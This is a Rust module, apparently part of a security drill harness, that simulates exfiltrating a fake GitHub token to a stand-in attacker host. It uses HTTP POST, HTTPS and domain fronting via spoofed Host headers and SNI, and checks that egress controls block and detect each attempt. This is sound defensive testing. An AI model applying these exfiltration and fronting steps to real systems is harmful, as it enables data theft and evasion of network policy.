//! Exfiltration to a domain the policy does not allow: HTTP POST and HTTPS, by name, and with
//! an allowed name in the Host header / SNI while dialling the attacker's IP (domain
//! fronting). Harmless: the "stolen" data is a fixed string, the attacker is the drill's own
//! fake server.

use super::util::{http, tls, Step};
use super::{detector, Attack, AttackResult, Category, Expect};
use crate::addrs::{ALLOWED_NAME, ATTACKER, EXFIL_NAME};

/// `exfil`: POST the "secret" to exfil.attacker.test.
pub struct Exfil;

const LOOT: &[u8] = b"GITHUB_TOKEN=ghs_drilldrilldrill";

impl Attack for Exfil {
    fn id(&self) -> &'static str {
        "exfil"
    }
    fn title(&self) -> &'static str {
        "exfiltration to a non-allowed domain (HTTP POST, HTTPS, fronting)"
    }
    fn category(&self) -> Category {
        Category::Network
    }
    fn expect(&self) -> Expect {
        Expect::BlockedAndDetected(detector::DENIED_EGRESS)
    }
    fn expect_in_audit_mode(&self) -> Expect {
        // Audit mode: the unknown host is let through there; a name the group never used is still news.
        Expect::Detected(detector::NEW_DESTINATION)
    }
    fn run(&self) -> AttackResult {
        let ip = ATTACKER.to_string();
        let s = vec![
            Step::from(
                format!("POST http://{EXFIL_NAME}/"),
                http(EXFIL_NAME, 80, "POST", EXFIL_NAME, "/upload", &[], LOOT),
            ),
            Step::from(
                format!("HTTPS to {EXFIL_NAME}"),
                tls(EXFIL_NAME, 443, Some(EXFIL_NAME), LOOT),
            ),
            Step::from(
                format!("POST to {ip} with Host {EXFIL_NAME}"),
                http(&ip, 80, "POST", EXFIL_NAME, "/upload", &[], LOOT),
            ),
            Step::from(
                format!("HTTPS to {ip} with SNI {ALLOWED_NAME} (fronting)"),
                tls(&ip, 443, Some(ALLOWED_NAME), LOOT),
            ),
            Step::from(
                format!("POST to {ip} with Host {ALLOWED_NAME} (fronting)"),
                http(&ip, 80, "POST", ALLOWED_NAME, "/upload", &[], LOOT),
            ),
        ];
        AttackResult::from_steps(self.id(), &s)
    }
}
